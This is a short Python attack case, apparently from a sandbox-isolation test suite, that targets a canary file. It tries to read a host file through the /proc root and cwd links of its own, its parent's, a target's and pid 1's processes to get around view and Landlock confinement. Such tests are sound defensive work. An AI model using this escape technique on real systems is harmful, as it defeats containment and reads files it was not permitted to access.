# /// attack
# catalogue = "reading: /proc of the parent"
# layers = ["view", "landlock"]
# aim = "canary"
# ///
# Goes to the host's files through the root and working directories of processes.

# %%
import os

for pid in ("self", os.getppid(), TARGET["pid"], 1):
    for door in ("root", "cwd"):
        try:
            print(open(f"/proc/{pid}/{door}{TARGET['host']}").read())
        except OSError:
            pass
